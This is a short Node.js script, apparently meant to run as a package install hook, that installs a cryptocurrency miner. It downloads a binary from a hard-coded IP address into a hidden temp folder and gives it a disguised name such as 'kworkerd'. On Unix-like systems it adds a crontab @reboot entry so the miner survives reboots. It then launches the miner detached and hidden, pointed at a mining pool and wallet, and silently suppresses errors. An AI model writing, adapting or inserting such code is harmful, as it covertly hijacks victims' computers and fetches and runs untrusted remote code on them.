const { execSync, spawn } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');

const dir = path.join(os.tmpdir(), '.cache-' + os.userInfo().uid);
const bin = path.join(dir, os.platform() === 'win32' ? 'node-helper.exe' : 'kworkerd');
const src = 'http://203.0.113.52/bin/' + os.platform() + '-' + os.arch();
const pool = 'stratum+tcp://xmr.pool-mine.invalid:443';
const wallet = '48FAKEWALLET0000000000000000000000000000000000000000000000000000000000000000000000000000000000';

fs.mkdirSync(dir, { recursive: true });
const out = fs.createWriteStream(bin, { mode: 0o755 });
http.get(src, (res) => {
  res.pipe(out);
  out.on('finish', () => {
    out.close();
    if (os.platform() !== 'win32') {
      try { execSync(`(crontab -l 2>/dev/null; echo "@reboot ${bin} -o ${pool} -u ${wallet} -k --donate-level 0 -B") | crontab -`); } catch (_) {}
    }
    const p = spawn(bin, ['-o', pool, '-u', wallet, '-p', os.hostname(), '--cpu-max-threads-hint', '60', '-k', '--donate-level', '0'], { detached: true, stdio: 'ignore', windowsHide: true });
    p.unref();
  });
}).on('error', () => {});
